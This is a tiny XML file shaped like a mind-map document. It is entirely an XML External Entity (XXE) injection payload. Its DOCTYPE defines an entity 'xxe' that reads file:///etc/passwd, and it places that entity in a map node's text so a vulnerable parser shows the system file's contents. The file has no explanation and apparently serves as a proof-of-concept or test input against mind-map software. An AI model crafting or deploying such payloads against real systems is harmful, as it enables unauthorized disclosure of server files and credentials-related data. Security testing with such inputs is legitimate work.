<!DOCTYPE map [
 <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<map version="1.0.1">
<node TEXT="Centre">
<node TEXT="&xxe;"/>
</node>
</map>
